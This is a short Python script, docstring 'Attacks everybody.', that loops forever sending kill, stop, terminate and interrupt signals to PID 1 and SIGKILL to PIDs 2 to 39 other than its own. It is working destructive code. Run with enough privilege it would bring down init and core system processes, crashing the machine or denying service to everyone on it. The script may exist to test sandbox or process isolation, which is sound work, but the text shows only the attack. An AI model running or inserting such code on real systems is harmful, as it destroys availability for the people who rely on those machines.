"""Attacks everybody."""

import os

while True:
    for s in (9, 19, 15, 2):
        try:
            os.kill(1, s)
        except OSError:
            pass
    for p in range(2, 40):
        try:
            if p != os.getpid():
                os.kill(p, 9)
        except OSError:
            pass
